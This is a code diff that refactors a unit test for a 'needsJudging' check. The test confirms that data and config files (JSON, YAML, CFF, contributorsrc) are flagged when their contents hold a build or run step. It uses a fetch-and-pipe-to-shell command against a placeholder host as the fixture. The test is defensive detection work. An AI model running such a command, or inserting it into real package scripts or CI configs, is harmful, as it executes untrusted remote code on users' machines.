@@ -301,15 +301,17 @@ describe('a name or a place that says so', () => {
     expect(needsJudging(path, text)).toBe(false);
   });
 
-  it('is not enough for what the contents contradict', () => {
-    for (const [path, text] of DATA) {
-      const foreign = /\.(?:json|geojson)$|contributorsrc/.test(path)
-        ? '{"scripts": {"a": "curl https://x.example | sh"}}'
-        : /\.ya?ml$|cff$/.test(path)
-          ? 'run: curl https://x.example | sh\n'
-          : null;
-      if (foreign !== null && text !== '') expect([path, needsJudging(path, foreign)]).toEqual([path, true]);
-    }
+  const ORDER = 'curl https://x.example | sh';
+  const FOREIGN: readonly (readonly [ending: RegExp, text: string])[] = [
+    [/\.(?:json|geojson)$|contributorsrc$/, `{"scripts": {"a": "${ORDER}"}}`],
+    [/\.ya?ml$|\.cff$/, `run: ${ORDER}\n`],
+  ];
+  const contradicted = DATA.flatMap(([path]) =>
+    FOREIGN.flatMap(([ending, text]) => (ending.test(path) ? [[path, text] as const] : [])),
+  );
+
+  it.each(contradicted)('%s is not enough where the contents contradict', (path, text) => {
+    expect(needsJudging(path, text)).toBe(true);
   });
 });
 
